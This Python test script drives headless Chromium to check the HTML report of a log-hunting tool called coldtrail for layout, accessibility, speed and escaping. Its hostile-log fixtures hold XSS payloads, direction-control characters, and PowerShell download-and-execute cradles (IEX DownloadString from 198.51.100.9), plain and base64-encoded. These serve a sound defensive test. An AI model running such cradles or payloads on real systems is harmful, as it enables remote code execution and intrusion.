#!/usr/bin/env python3
"""Opens report.html in a real Chromium and looks: does the first screen name host and reason, does every finding unfold to its
evidence, does hostile text stay text, is the console silent, do 5,000 findings open fast?

    python3 scripts/browser_test.py [--binary target/release/coldtrail] [--shots DIR] [--findings 5000]

Needs Chromium (Debian: apt-get install chromium) and nothing but Python's standard library. Without Chromium it says so and
ends with 0, so that a machine without one can still run all other tests. --shots also writes screenshots of the sample's report.
"""
import argparse
import base64
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
# From the project's folder, so that evidence names the files as the documents do.
SAMPLE = Path("sample_data/office")
LISTS = Path("sample_data/office-lists")
SAMPLE_FLAGS = [
    "--whois", str(LISTS / "whois.csv"), "--assets", str(LISTS / "assets.csv"),
    "--tz", "dhcp-windows=Asia/Tokyo", "--tz", "msdns=Asia/Tokyo",
]
# In every field that a log can fill.
HOSTILE = '<script>window.pwned=1</script>"><img src=x onerror=window.pwned=2>\u202egpj.exe\x1b[31mred\u200b\' onload=\'window.pwned=3'
BAD_CHARACTERS = "\u202e\u202d\u2066\u200b\u200f\x1b\x00\x07"
TIMEOUT = 60


class Browser:
    """Chromium over its debugging pipe: JSON messages that end with a zero byte."""

    def __init__(self, program, profile):
        to_child, self.writing = os.pipe()
        self.reading, from_child = os.pipe()

        def wire():
            # Copies first: the numbers may be 3 and 4 already.
            a, b = os.dup(to_child), os.dup(from_child)
            os.dup2(a, 3)
            os.dup2(b, 4)

        flags = ["--headless=new", "--no-sandbox", "--disable-gpu", "--hide-scrollbars", "--remote-debugging-pipe",
                 "--force-device-scale-factor=1", "--no-first-run", "--disable-extensions", f"--user-data-dir={profile}"]
        self.process = subprocess.Popen([program, *flags, "about:blank"], close_fds=False, preexec_fn=wire,
                                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        os.close(to_child)
        os.close(from_child)
        self.number = 0
        self.events = []
        self.buffer = b""
        self.session = None
        target = self.call("Target.createTarget", {"url": "about:blank"})["targetId"]
        self.session = self.call("Target.attachToTarget", {"targetId": target, "flatten": True})["sessionId"]
        for domain in ("Page", "Runtime", "Log"):
            self.call(f"{domain}.enable")

    def close(self):
        self.process.terminate()
        self.process.wait(timeout=20)

    def receive(self):
        while b"\0" not in self.buffer:
            part = os.read(self.reading, 1 << 16)
            if not part:
                raise RuntimeError("the browser went away")
            self.buffer += part
        message, self.buffer = self.buffer.split(b"\0", 1)
        return json.loads(message)

    def call(self, method, params=None):
        self.number += 1
        message = {"id": self.number, "method": method, "params": params or {}}
        if self.session:
            message["sessionId"] = self.session
        os.write(self.writing, json.dumps(message).encode() + b"\0")
        while True:
            answer = self.receive()
            if answer.get("id") == self.number:
                if "error" in answer:
                    raise RuntimeError(f"{method}: {answer['error']['message']}")
                return answer["result"]
            self.events.append(answer)

    def js(self, expression):
        result = self.call("Runtime.evaluate", {"expression": expression, "returnByValue": True, "awaitPromise": True})
        if "exceptionDetails" in result:
            raise RuntimeError(f"{expression[:80]}: {result['exceptionDetails']}")
        return result["result"].get("value")

    def size(self, width, height, scheme="light"):
        self.call("Emulation.setDeviceMetricsOverride",
                  {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": False})
        self.call("Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": scheme}]})

    def open(self, path):
        """Opens a file, waits until it is drawn, and tells the seconds that took."""
        self.events.clear()
        begin = time.monotonic()
        self.call("Page.navigate", {"url": Path(path).resolve().as_uri()})
        while time.monotonic() - begin < TIMEOUT:
            if any(e.get("method") == "Page.loadEventFired" for e in self.events):
                break
            self.events.append(self.receive())
        self.js("new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))")
        return time.monotonic() - begin

    def complaints(self):
        """What the page put on the console: errors, exceptions, refusals of the policy."""
        self.js("0")
        out = []
        for e in self.events:
            p = e.get("params", {})
            if e.get("method") == "Runtime.exceptionThrown":
                out.append(str(p.get("exceptionDetails", {}).get("text")))
            if e.get("method") == "Log.entryAdded" and p["entry"]["level"] in ("error", "warning"):
                out.append(p["entry"]["text"])
            if e.get("method") == "Runtime.consoleAPICalled" and p.get("type") in ("error", "warning", "assert"):
                out.append(str(p.get("args")))
            if e.get("method") == "Page.javascriptDialogOpening":
                out.append("a dialog")
        return out

    def shot(self, path, clip=None, whole=False):
        params = {"format": "png", "captureBeyondViewport": bool(clip or whole)}
        if clip:
            params["clip"] = dict(zip(("x", "y", "width", "height"), clip), scale=1)
        Path(path).write_bytes(base64.b64decode(self.call("Page.captureScreenshot", params)["data"]))


class Check:
    def __init__(self):
        self.failed = 0

    def __call__(self, holds, what, detail=""):
        print(("ok    " if holds else "FAILED"), what, "" if holds else f": {detail}")
        self.failed += not holds


def hunt(binary, inputs, out, *flags):
    command = [str(Path(binary).resolve()), "hunt", *map(str, inputs), "--out", str(out), "--quiet", *flags]
    code = subprocess.run(command, check=False, cwd=ROOT).returncode
    if code not in (0, 1, 4):
        sys.exit(f"hunt ended with {code}: {' '.join(command)}")
    return Path(out) / "report.html"


def sysmon(host, user, command, parent, when, record, guid, image):
    """A process start as Winlogbeat ships it."""
    fields = {
        "RuleName": "-", "UtcTime": when.replace("T", " ").rstrip("Z"), "ProcessGuid": "{%s}" % guid, "ProcessId": "4242",
        "Image": image, "OriginalFileName": "PowerShell.EXE", "CommandLine": command, "CurrentDirectory": command[:60],
        "User": user, "LogonId": "0x3e7", "TerminalSessionId": "1", "IntegrityLevel": "High", "Hashes": "SHA256=" + "ab" * 32,
        "ParentProcessGuid": "{%s}" % guid[::-1], "ParentProcessId": "77", "ParentImage": parent,
        "ParentCommandLine": command, "ParentUser": user, "Company": user, "Description": user, "Product": user,
    }
    return json.dumps({
        "@timestamp": when, "message": "Process Create",
        "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "provider_name": "Microsoft-Windows-Sysmon", "event_id": "1",
                   "record_id": record, "computer_name": host, "event_data": fields},
        "event": {"code": "1", "provider": "Microsoft-Windows-Sysmon"}, "host": {"name": host},
    }, ensure_ascii=False)


WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def encoded(text):
    return "powershell.exe -NoProfile -EncodedCommand " + base64.b64encode(text.encode("utf-16-le")).decode()


def hostile_logs(folder):
    folder.mkdir()
    lines = []
    for i, host in enumerate([HOSTILE, "pc-1", "pc-2" + HOSTILE]):
        payload = f"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/{HOSTILE}') # {i}"
        for j, command in enumerate([encoded(payload), "powershell.exe -w hidden -c " + payload, HOSTILE + " " + encoded(payload)]):
            guid = f"12345678-0000-0000-0000-0000000{i:02}{j:03}"
            lines.append(sysmon(host, "CORP\\" + HOSTILE, command, WORD, f"2025-09-20T11:0{i}:{j:02}Z", i * 10 + j, guid, POWERSHELL))
    name = "log <img src=x onerror=window.pwned=4> \u202e.ndjson"
    (folder / name).write_text("\n".join(lines) + "\n", encoding="utf-8")
    (folder / "broken \"><img src=x>.evtx").write_bytes(b"ElfFile\0" + b"\xff" * 600)
    return folder


def many_logs(folder, findings):
    folder.mkdir()
    with open(folder / "sysmon.ndjson", "w", encoding="utf-8") as f:
        for i in range(findings):
            guid = f"12345678-0000-0000-0000-{i:012}"
            when = f"2025-09-{1 + i % 28:02}T{i % 24:02}:{i % 60:02}:30Z"
            command = encoded(f"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/{i}')")
            f.write(sysmon(f"pc-{i:05}", f"CORP\\user{i}", command, WORD, when, i + 1, guid, POWERSHELL) + "\n")
    return folder


def check_sample(browser, report, check):
    browser.size(1280, 800)
    browser.open(report)
    first = browser.js("""(() => { const c = document.querySelector('.cards .card'); const r = c.querySelector('ul li').getBoundingClientRect();
        return {host: c.querySelector('h3').innerText, why: c.querySelector('ul').innerText, bottom: r.bottom}; })()""")
    with open(Path(report).with_name("findings.jsonl"), encoding="utf-8") as f:
        best = json.loads(f.readline())
    check(best["host"] in first["host"], "the first screen names the host to look at first", first)
    check(any(s["title"] in first["why"] for s in best["signals"]), "and says why in words", first)
    cards = browser.js("[...document.querySelectorAll('.cards .card')].map(c => c.innerText.toLowerCase())")
    takeda = [c for c in cards if "pc-takeda" in c]
    check(takeda and "powershell" in takeda[0] and "document" in takeda[0], "the host with the opened document is there, too", cards)
    check(first["bottom"] < 800, "without scrolling at 1280 x 800", first)
    entry = browser.js("[...document.querySelectorAll('.card .entry')].map(e => e.innerText).join('|')")
    check("pc-hayashi" in entry, "the host where the case begins is named", entry)
    folded = browser.js("""(() => { const bad = []; for (const d of document.querySelectorAll('details.finding')) {
        if (!d.open) d.querySelector('summary').click();
        const ev = d.querySelector('.ev'); if (!d.open || !ev || !ev.checkVisibility()) { bad.push(d.dataset.r); continue; }
        if (ev.tagName === 'DETAILS') { ev.querySelector('summary').click(); const row = ev.querySelector('.row');
            if (!row || !row.checkVisibility() || !/byte \\d/.test(row.innerText)) bad.push(d.dataset.r); } }
        return {bad, n: document.querySelectorAll('details.finding').length}; })()""")
    check(folded["n"] >= 6 and not folded["bad"], f"every one of {folded['n']} findings unfolds to its evidence", folded)
    counts = browser.js("""(() => { const f = document.getElementById('find'); const n = () =>
        document.querySelectorAll('details.finding:not([hidden])').length; const set = t => { f.value = t; f.dispatchEvent(new Event('input')); return n(); };
        const out = [n(), set('psexesvc'), set('no such word anywhere'), set('')]; const l = document.getElementById('least');
        l.value = '4'; l.dispatchEvent(new Event('change')); out.push(n()); l.value = '0'; l.dispatchEvent(new Event('change'));
        const o = document.getElementById('order'); o.value = 'host'; o.dispatchEvent(new Event('change'));
        out.push(document.querySelector('details.finding').dataset.h); o.value = 'rank'; o.dispatchEvent(new Event('change'));
        out.push(document.querySelector('details.finding').dataset.r); return out; })()""")
    check(0 < counts[1] < counts[0] and counts[2] == 0 and counts[3] == counts[0], "search narrows the list and widens it again", counts)
    check(0 < counts[4] < counts[0] and counts[5] < "b" and counts[6] == "1", "severity and order work", counts)
    drawn = browser.js("""['.lanes path.rows', '.marks rect', '.chart path.rows', 'svg.bar rect', 'svg.path .box', '.matrix li', '.says', '.phases li', '.ioc']
        .filter(s => !document.querySelector(s))""")
    check(not drawn, "timeline, check-ins, score, path, matrix, decoded commands, steps and indicators are there", drawn)
    for width in (1280, 390):
        browser.size(width, 844)
        over = browser.js("""(() => { const w = innerWidth; const out = document.documentElement.scrollWidth > w ? ['page'] : [];
            for (const e of document.querySelectorAll('main *')) { const r = e.getBoundingClientRect();
                if (r.width > 0 && r.right > w + 1 && !e.closest('svg')) out.push(e.className + ' ' + e.innerText.slice(0, 40)); if (out.length > 4) break; }
            return out; })()""")
        check(not over, f"nothing is wider than the screen at {width}", over)
    check_reading(browser, report, check)


def check_reading(browser, report, check):
    """Keyboard, screen reader, dark, print, no script."""
    browser.size(1280, 800, "dark")
    dark = browser.js("getComputedStyle(document.body).backgroundColor")
    browser.size(1280, 800)
    light = browser.js("getComputedStyle(document.body).backgroundColor")
    check(dark != light, "dark and light differ", (dark, light))
    contrast = browser.js(CONTRAST)
    check(not contrast, "text stands out enough in light", contrast)
    browser.size(1280, 800, "dark")
    contrast = browser.js(CONTRAST)
    check(not contrast, "and in dark", contrast)
    browser.size(1280, 800)
    unnamed = browser.js("""[...document.querySelectorAll('svg')].filter(s => !s.closest('[aria-hidden]') && !s.getAttribute('aria-label')).length
        + [...document.querySelectorAll('input,select,button')].filter(e => !(e.labels && e.labels.length) && !e.textContent.trim()).length
        + [...document.querySelectorAll('section')].filter(s => !document.getElementById(s.getAttribute('aria-labelledby'))).length""")
    check(unnamed == 0, "every drawing, control and section has a name", unnamed)
    levels = browser.js("""(() => { let last = 0; for (const h of document.querySelectorAll('h1,h2,h3,h4')) { const n = +h.tagName[1];
        if (n > last + 1) return h.innerText; last = n; } return ''; })()""")
    check(levels == "", "no level of heading is left out", levels)
    browser.open(report)
    for _ in range(2):
        key(browser, "Tab")
    skip = browser.js("document.activeElement.className + '|' + document.activeElement.tagName")
    browser.js("document.querySelectorAll('details.finding > summary')[1].focus()")
    before = browser.js("document.querySelectorAll('details.finding')[1].open")
    key(browser, "Enter", "\r")
    after = browser.js("document.querySelectorAll('details.finding')[1].open")
    check(before is False and after is True, "a finding unfolds by the keyboard", (skip, before, after))
    pdf = base64.b64decode(browser.call("Page.printToPDF", {"printBackground": True})["data"])
    check(pdf[:4] == b"%PDF" and len(pdf) > 50_000, "it prints", len(pdf))
    check(not browser.complaints(), "the console is silent", browser.complaints())
    browser.call("Emulation.setScriptExecutionDisabled", {"value": True})
    browser.call("Page.navigate", {"url": Path(report).resolve().as_uri()})
    time.sleep(1)
    document = browser.call("DOM.getDocument", {"depth": 1})["root"]["nodeId"]
    tools = browser.call("DOM.querySelector", {"nodeId": document, "selector": "#tools[hidden]"})["nodeId"]
    rows = browser.call("DOM.querySelectorAll", {"nodeId": document, "selector": "details.finding .ev"})["nodeIds"]
    browser.call("Emulation.setScriptExecutionDisabled", {"value": False})
    check(tools != 0 and len(rows) > 6, "without scripts the findings are there and the tools are not", (tools, len(rows)))


# Texts whose contrast with what lies behind them is under 4.5 (WCAG AA).
CONTRAST = """(() => { const c = s => (s.match(/[\\d.]+/g) || []).map(Number);
    const lum = ([r, g, b]) => { const f = v => { v /= 255; return v <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4; };
        return .2126 * f(r) + .7152 * f(g) + .0722 * f(b); };
    const behind = e => { for (; e; e = e.parentElement) { const b = c(getComputedStyle(e).backgroundColor); if (b.length < 4 || b[3] > .5) return b; }
        return c(getComputedStyle(document.body).backgroundColor); };
    const bad = new Set(); for (const e of document.querySelectorAll('main *, header *')) {
        if (e.closest('svg') || e.tagName === 'SCRIPT' || !e.checkVisibility() || ![...e.childNodes].some(n => n.nodeType === 3 && n.data.trim())) continue;
        const a = lum(c(getComputedStyle(e).color)), b = lum(behind(e)); const ratio = (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
        if (ratio < 4.5) bad.add(e.tagName + '.' + e.className + ' ' + ratio.toFixed(1)); } return [...bad].slice(0, 8); })()"""


def key(browser, name, text=""):
    codes = {"Tab": 9, "Enter": 13}
    base = {"key": name, "code": name, "windowsVirtualKeyCode": codes[name]}
    browser.call("Input.dispatchKeyEvent", {"type": "keyDown", **base, **({"text": text} if text else {})})
    browser.call("Input.dispatchKeyEvent", {"type": "keyUp", **base})


def check_hostile(browser, report, check):
    browser.size(1280, 800)
    browser.open(report)
    browser.js("document.querySelectorAll('details').forEach(d => d.open = true)")
    state = browser.js("""({pwned: typeof window.pwned, scripts: document.scripts.length, images: document.images.length,
        handlers: [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
        outside: [...document.querySelectorAll('[src],[href]')].filter(e => !(e.getAttribute('href') || '').startsWith('#')).length,
        findings: document.querySelectorAll('details.finding').length, text: document.documentElement.innerText, html: document.documentElement.outerHTML})""")
    check(state["findings"] > 0 and "window.pwned=1" in state["text"], "hostile text is shown as text", state["findings"])
    check(state["pwned"] == "undefined", "nothing of it ran", state["pwned"])
    check(state["scripts"] == 1 and state["images"] == 0 and state["handlers"] == 0 and state["outside"] == 0,
          "one script of our own, no image, no handler, nothing from elsewhere",
          [state[k] for k in ("scripts", "images", "handlers", "outside")])
    bad = [hex(ord(c)) for c in BAD_CHARACTERS if c in state["html"]]
    check(not bad, "no control or direction character is in the page", bad)
    check(not browser.complaints(), "the console is silent", browser.complaints())


def check_many(browser, report, findings, check):
    browser.size(1280, 800)
    took = min(browser.open(report) for _ in range(2))
    n = browser.js("document.querySelectorAll('details.finding').length")
    size = Path(report).stat().st_size / 1e6
    print(f"      {n} findings, {size:.1f} MB, open in {took:.2f} s")
    check(n == findings, "all findings are there", n)
    # A generous bound: a busy machine is no failure of the page; 2 s is the goal.
    check(took < 15, "they open in time", took)
    begin = time.monotonic()
    browser.js("(() => { const f = document.getElementById('find'); f.value = 'pc-04321'; f.dispatchEvent(new Event('input')); return document.body.offsetHeight; })()")
    left = browser.js("document.querySelectorAll('details.finding:not([hidden])').length")
    print(f"      the first search takes {time.monotonic() - begin:.2f} s")
    check(left == min(1, findings // 4322), "the search finds one of them", left)
    check(not browser.complaints(), "the console is silent", browser.complaints())


def shots(browser, report, japanese, folder):
    """The sample's report at both widths: what docs/images shows. Heights keep each picture under 400 KB."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, path, width, height, scheme, at in (
        ("report-1280", report, 1280, 1200, "light", None),
        ("report-390", report, 390, 1900, "light", None),
        ("report-1280-dark", report, 1280, 1000, "dark", None),
        ("report-ja-1280", japanese, 1280, 900, "light", None),
        ("finding-1280", report, 1280, 1560, "light", "details.finding"),
        ("finding-390", report, 390, 1900, "light", "details.finding"),
    ):
        browser.size(width, height, scheme)
        browser.open(path)
        if at:
            # Twice: what is above gets its true height when it is drawn.
            for _ in range(2):
                browser.js(f"document.querySelector('{at}').scrollIntoView(); new Promise(r => setTimeout(r, 200))")
        browser.shot(folder / f"{name}.png")


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--binary", type=Path, default=ROOT / "target" / "release" / "coldtrail")
    parser.add_argument("--shots", type=Path)
    parser.add_argument("--findings", type=int, default=5000)
    args = parser.parse_args()
    program = os.environ.get("CHROMIUM") or next(
        filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    if not program:
        print("SKIPPED: the browser tests did NOT run: no Chromium here (Debian: apt-get install chromium)", file=sys.stderr)
        return 0
    if not args.binary.exists():
        sys.exit(f"{args.binary} is not there: cargo build --release")
    check = Check()
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        browser = Browser(program, tmp / "profile")
        try:
            sample = hunt(args.binary, [SAMPLE], tmp / "sample", *SAMPLE_FLAGS)
            if args.shots:
                japanese = hunt(args.binary, [SAMPLE], tmp / "japanese", *SAMPLE_FLAGS, "--lang", "ja")
                shots(browser, sample, japanese, args.shots)
                return 0
            check_sample(browser, sample, check)
            japanese = hunt(args.binary, [SAMPLE], tmp / "sample", *SAMPLE_FLAGS, "--lang", "ja")
            browser.open(japanese)
            check(browser.js("document.documentElement.lang") == "ja" and not browser.complaints(), "the Japanese report opens")
            check_hostile(browser, hunt(args.binary, [hostile_logs(tmp / "hostile")], tmp / "hostile-out"), check)
            many = hunt(args.binary, [many_logs(tmp / "many", args.findings)], tmp / "many-out")
            check_many(browser, many, args.findings, check)
        finally:
            browser.close()
    print(f"{check.failed} failed" if check.failed else "all browser checks hold")
    return 1 if check.failed else 0


if __name__ == "__main__":
    sys.exit(main())
